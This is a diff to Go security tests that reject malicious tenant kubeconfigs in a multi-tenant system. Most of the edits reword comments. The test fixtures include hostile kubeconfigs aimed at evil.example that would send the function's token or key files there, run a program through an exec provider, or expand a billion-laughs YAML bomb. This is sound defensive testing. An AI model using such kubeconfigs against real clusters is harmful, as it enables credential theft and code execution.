@@ -15,7 +15,7 @@ import (
 	"github.com/vitistack/stack/events/outbound"
 )
 
-// kubeconfig is one of a user with these credentials.
+// kubeconfig returns a kubeconfig of a user with these credentials.
 func kubeconfig(server, cluster, user string) string {
 	return "apiVersion: v1\nkind: Config\ncurrent-context: x\n" +
 		"clusters: [{name: c, cluster: {server: '" + server + "'" + cluster + "}}]\n" +
@@ -23,8 +23,8 @@ func kubeconfig(server, cluster, user string) string {
 		"users: [{name: u, user: {" + user + "}}]\n"
 }
 
-// TestMaliciousKubeconfig has tenants write what the function would run or read for
-// them: its own token would go to a server of theirs.
+// TestMaliciousKubeconfig has tenants write kubeconfigs that make the function run a program, or read
+// a file and send its token to their server.
 func TestMaliciousKubeconfig(t *testing.T) {
 	t.Parallel()
 	dir := t.TempDir()
@@ -36,16 +36,16 @@ func TestMaliciousKubeconfig(t *testing.T) {
 		reason, kubeconfig string
 		want               error
 	}{
-		"Good":    {reason: "all that is needed is in it", kubeconfig: kubeconfig("https://10.0.0.5:6443", "", "token: t")},
-		"Token":   {reason: "the function's token", kubeconfig: kubeconfig("https://evil.example", "", "tokenFile: "+token), want: ErrReachesHere},
-		"Both":    {reason: "a token does not hide the file", kubeconfig: kubeconfig("https://evil.example", "", "token: t, tokenFile: "+token), want: ErrReachesHere},
+		"Good":    {reason: "everything is in the kubeconfig", kubeconfig: kubeconfig("https://10.0.0.5:6443", "", "token: t")},
+		"Token":   {reason: "a path to the function's token", kubeconfig: kubeconfig("https://evil.example", "", "tokenFile: "+token), want: ErrReachesHere},
+		"Both":    {reason: "a token in addition to a path", kubeconfig: kubeconfig("https://evil.example", "", "token: t, tokenFile: "+token), want: ErrReachesHere},
 		"Endless": {reason: "a file without an end", kubeconfig: kubeconfig("https://evil.example", "", "tokenFile: /dev/zero"), want: ErrReachesHere},
 		"Program": {reason: "a program", kubeconfig: kubeconfig("https://evil.example", "", "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["+ran+"], interactiveMode: Never}"), want: ErrReachesHere},
 		"Plugin":  {reason: "a plug-in", kubeconfig: kubeconfig("https://evil.example", "", "auth-provider: {name: oidc}"), want: ErrReachesHere},
-		"Key":     {reason: "a key of the function", kubeconfig: kubeconfig("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: ErrReachesHere},
+		"Key":     {reason: "a path to the function's key", kubeconfig: kubeconfig("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: ErrReachesHere},
 		"CA":      {reason: "a file again", kubeconfig: kubeconfig("https://evil.example", ", certificate-authority: "+token, "token: t"), want: ErrReachesHere},
-		"Another": {reason: "a user that is not the current one", kubeconfig: strings.Replace(kubeconfig("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: ErrReachesHere},
-		"Null":    {reason: "a user that is nothing", kubeconfig: "users: [{name: u, user: null}]\nclusters: [null]", want: ErrNotKubeconfig},
+		"Another": {reason: "the path belongs to another user of the kubeconfig", kubeconfig: strings.Replace(kubeconfig("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: ErrReachesHere},
+		"Null":    {reason: "a user is null", kubeconfig: "users: [{name: u, user: null}]\nclusters: [null]", want: ErrNotKubeconfig},
 		"NoYAML":  {reason: "no document", kubeconfig: "{", want: ErrNotKubeconfig},
 		"Empty":   {reason: "no context", kubeconfig: "", want: ErrNotKubeconfig},
 		"Bomb":    {reason: "a billion laughs", kubeconfig: bomb(), want: ErrNotKubeconfig},
@@ -60,12 +60,11 @@ func TestMaliciousKubeconfig(t *testing.T) {
 		})
 	}
 	if _, err := os.Stat(ran); err == nil {
-		t.Error("a program has been run")
+		t.Error("a program was run")
 	}
 }
 
-// bomb is a YAML document of some hundred bytes that would become ten thousand
-// million.
+// bomb returns a YAML document of some hundred bytes that expands to ten billion values.
 func bomb() string {
 	doc := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
 	for c := 'b'; c <= 'j'; c++ {
@@ -74,8 +73,8 @@ func bomb() string {
 	return doc
 }
 
-// TestRemoteAPIServer has an API server that somebody else has named lead on to another:
-// nothing is sent there, the token least of all.
+// TestRemoteAPIServer has a remote API server redirect the client to another server. The client sends
+// nothing there, and above all no token.
 func TestRemoteAPIServer(t *testing.T) {
 	t.Parallel()
 	followed := false
@@ -107,12 +106,12 @@ func TestRemoteAPIServer(t *testing.T) {
 		_ = res.Body.Close()
 	}
 	if !errors.As(err, &denied) {
-		t.Errorf("the metadata of the cloud: %v", err)
+		t.Errorf("the cloud's metadata service: %v", err)
 	}
 }
 
-// TestReferencesStayInTheirNamespace has tenants, and forged events, name what is in
-// the namespace of somebody else by a path. The API server is not even asked.
+// TestReferencesStayInTheirNamespace has tenants and forged events refer to other namespaces by a
+// path. The API server gets no request.
 func TestReferencesStayInTheirNamespace(t *testing.T) {
 	t.Parallel()
 	var asked []string
@@ -148,7 +147,7 @@ func FuzzReadKubeconfig(f *testing.F) {
 			return
 		}
 		if c := config.TLSClientConfig; config.ExecProvider != nil || config.AuthProvider != nil || config.BearerTokenFile != "" || c.CAFile+c.CertFile+c.KeyFile != "" {
-			t.Errorf("%q reaches for programs or files", data)
+			t.Errorf("%q is accepted although it refers to a program or a file", data)
 		}
 	})
 }
